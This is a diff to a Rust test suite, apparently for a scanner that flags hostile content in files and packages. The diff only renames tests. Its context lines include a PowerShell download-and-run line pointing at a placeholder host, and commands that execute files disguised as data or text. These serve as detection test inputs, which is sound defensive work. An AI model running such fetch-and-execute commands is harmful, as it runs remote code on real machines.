@@ -88,7 +88,7 @@ fn the_corpus_is_judged_as_expected() {
 }
 
 #[test]
-fn real_packages_are_not_high() {
+fn real_packages_have_no_high_verdict() {
     let corpus = corpus();
     for package in packages(&corpus).into_iter().chain(sorted(&corpus.join("packages"))) {
         let name = package.display();
@@ -186,7 +186,7 @@ fn with_file(name: &str, bytes: &[u8], command: &str) -> (TempDir, PathBuf) {
 const FETCH: &str = "iex (iwr https://files.example.com/a.ps1)\r\n";
 
 #[test]
-fn what_a_command_is_given_is_read_whatever_it_is_called() {
+fn a_file_given_to_a_command_is_read_whatever_its_name() {
     for (name, run) in [
         ("data.dat", "powershell -c \"gc data.dat -raw | iex\""),
         ("notes.txt", "cmd /c ren notes.txt a.ps1 & powershell -f a.ps1"),
@@ -204,7 +204,7 @@ fn what_a_command_is_given_is_read_whatever_it_is_called() {
 }
 
 #[test]
-fn what_runs_is_read_whatever_its_first_bytes_are() {
+fn a_file_that_runs_is_read_whatever_its_first_bytes() {
     let noise: Vec<u8> = (0..600_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
     let packed: Vec<u8> = [noise.as_slice(), b"\r\n", FETCH.as_bytes(), noise.as_slice()].concat();
     for (name, start, run) in [
@@ -219,7 +219,7 @@ fn what_runs_is_read_whatever_its_first_bytes_are() {
 }
 
 #[test]
-fn what_only_comments_say_is_milder_than_what_code_does() {
+fn a_finding_in_a_comment_is_milder_than_one_in_code() {
     for (name, text) in [
         ("a.ps1", format!("# {FETCH}")),
         ("a.cmd", format!("rem powershell {FETCH}")),
@@ -518,7 +518,7 @@ fn only_documents_that_something_leads_to_pass_for_documents() {
 }
 
 #[test]
-fn a_value_is_what_the_most_lenient_reader_takes_it_for() {
+fn a_value_is_read_as_by_the_most_lenient_reader() {
     let verdict = |value: &str| {
         let (report, _) = report_after(|folder| {
             let path =
